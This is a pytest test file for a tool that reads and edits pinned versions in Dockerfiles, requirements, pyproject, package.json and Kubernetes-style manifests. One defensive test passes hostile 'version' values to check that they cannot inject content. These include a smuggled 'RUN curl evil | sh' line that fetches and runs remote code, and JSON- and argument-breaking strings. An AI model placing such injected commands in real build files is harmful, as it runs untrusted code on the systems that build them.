"""Which version a file uses, and the smallest edit that makes it another."""

import json
import tomllib

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from steersman.domain.errors import ToolError
from steersman.toolsets.forge.pins import image_name, pinned, repinned

DOCKERFILE = """# FROM python:1
ARG BASE=x
FROM --platform=$BUILDPLATFORM  python:3.12.7-slim  AS build
FROM registry.test:5000/python:3 AS other
from python:3.12.7-slim
COPY --from=python:3.12.7-slim /usr /usr
COPY --from=build /w /w
"""
REQUIREMENTS = """-r base.txt
# requests==1
requests[socks] ==2.31.0 ; python_version >= "3.8"  # http
flask>=2,<3
Zope.Interface
"""
PYPROJECT = """[project]
dependencies = [
  "requests[socks]>=2,<3",  # "requests>=1" is too old
  'flask == 3.0.0 ; python_version > "3"',
]
[project.optional-dependencies]
x = ["uvicorn>=0.20"]
[dependency-groups]
dev = ["pytest>=8"]
[tool.poetry.dependencies]
django = "^4.2"
celery = {extras = ["redis"], version = "~5.3"}
"""
PACKAGE = """{
  "name": "lodash",
  "version": "1.0.0",
  "dependencies": {
    "lodash": "^4.17.20",
    "@scope/x": "1.0.0"
  },
  "devDependencies": {"lodash":"^4.17.20"}
}
"""
MANIFEST = """apiVersion: apps/v1
spec:
  containers:
  - name: app
    image: "shop/payments:1.0.0"   # ours
  - {name: side, image: shop/payments:1.0.0}
---
images:
- name: shop/catalog
  newTag: '2'
---
image:
  repository: shop/front
  tag: 3.1.0
"""

CASES = [
    ("dockerfile", DOCKERFILE, "python", "3.12.7-slim", "3.12.12-slim"),
    ("dockerfile", DOCKERFILE, "registry.test:5000/python", "3", "3.12@sha256:" + "a" * 64),
    ("dockerfile", "FROM alpine\n", "alpine", "", "3.20"),
    ("dockerfile", "FROM alpine@sha256:" + "b" * 64, "alpine", "@sha256:" + "b" * 64, "3.20"),
    ("requirements", REQUIREMENTS, "requests", "==2.31.0", "==2.32.4"),
    ("requirements", REQUIREMENTS, "flask", ">=2,<3", ">=3,<4"),
    ("requirements", REQUIREMENTS, "zope-interface", "", ">=6"),
    ("pyproject", PYPROJECT, "requests", ">=2,<3", "==2.32.4"),
    ("pyproject", PYPROJECT, "Flask", "== 3.0.0", "==3.1.0"),
    ("pyproject", PYPROJECT, "uvicorn", ">=0.20", ">=0.30"),
    ("pyproject", PYPROJECT, "pytest", ">=8", ">=9"),
    ("pyproject", PYPROJECT, "Django", "^4.2", "^5.0"),
    ("pyproject", PYPROJECT, "celery", "~5.3", "~5.4"),
    ("npm", PACKAGE, "lodash", "^4.17.20", "^4.17.21"),
    ("npm", PACKAGE, "@scope/x", "1.0.0", "1.0.1"),
    ("manifest", MANIFEST, "shop/payments", "1.0.0", "1.0.1"),
    ("manifest", MANIFEST, "shop/catalog", "2", "2.1"),
    ("manifest", MANIFEST, "shop/front", "3.1.0", "3.1.1"),
]


@pytest.mark.parametrize(("kind", "text", "package", "was", "new"), CASES)
def test_a_version_changes_there_and_back_to_the_last_byte(
    kind: str, text: str, package: str, was: str, new: str
) -> None:
    assert pinned(kind, text, package) == was
    edited = repinned(kind, text, package, new)
    assert pinned(kind, edited, package) == new
    assert repinned(kind, edited, package, was) == text


def test_all_lines_of_the_same_image_move_together_and_comments_stay() -> None:
    edited = repinned("dockerfile", DOCKERFILE, "python", "9")
    assert edited.count("python:9") == 3
    assert "# FROM python:1\n" in edited
    assert "--from=build" in edited


def test_what_was_valid_stays_valid() -> None:
    assert json.loads(repinned("npm", PACKAGE, "lodash", "^4.17.21"))["version"] == "1.0.0"
    assert tomllib.loads(repinned("pyproject", PYPROJECT, "requests", "==2.32.4"))["project"]["dependencies"][0] == (
        "requests[socks]==2.32.4"
    )
    assert len(list(yaml.safe_load_all(repinned("manifest", MANIFEST, "shop/payments", "2")))) == 3


@pytest.mark.parametrize(
    ("kind", "text", "package", "said"),
    [
        ("dockerfile", "FROM a:1\nFROM a:2\n", "a", "several versions"),
        ("dockerfile", "FROM a:$V\n", "a", "build argument"),
        ("requirements", "requests==2 --hash=sha256:0\n", "requests", "hashes"),
        ("requirements", "requests==2 \\\n    --hash=sha256:0\n", "requests", "hashes"),
        ("npm", "{", "a", "no JSON"),
        ("pyproject", "[", "a", "no TOML"),
        ("manifest", "image: {{ .Values.image }}:{{ .x }}\n", "a", "no plain YAML"),
    ],
)
def test_what_cannot_be_edited_safely_is_refused(kind: str, text: str, package: str, said: str) -> None:
    with pytest.raises(ToolError, match=said):
        pinned(kind, text, package)


@pytest.mark.parametrize("value", ['1" , "x": "y', "1\nRUN curl evil | sh", "1 AS x", "1; import", "==2 --hash=x"])
@pytest.mark.parametrize(
    ("kind", "text", "package"), [(c[0], c[1], c[2]) for c in CASES[:1] + CASES[4:5] + CASES[13:16]]
)
def test_a_value_never_becomes_anything_but_a_version(kind: str, text: str, package: str, value: str) -> None:
    try:
        edited = repinned(kind, text, package, value)
    except ToolError:
        return
    assert edited.count("\n") == text.count("\n")
    assert pinned(kind, edited, package) == value


@given(
    st.from_regex(r"[a-z0-9.]{1,20}(:[0-9]{1,5})?(/[a-z0-9._-]{1,20}){0,3}", fullmatch=True),
    st.from_regex(r"([A-Za-z0-9_][A-Za-z0-9._-]{0,30})?(@sha256:[0-9a-f]{64})?", fullmatch=True),
)
def test_a_reference_is_its_name_and_its_version(name: str, version: str) -> None:
    tag = version if version.startswith("@") or not version else f":{version}"
    name = name if "/" in name or ":" not in name else f"{name}/x"
    assert image_name(name + tag) == (name, version)
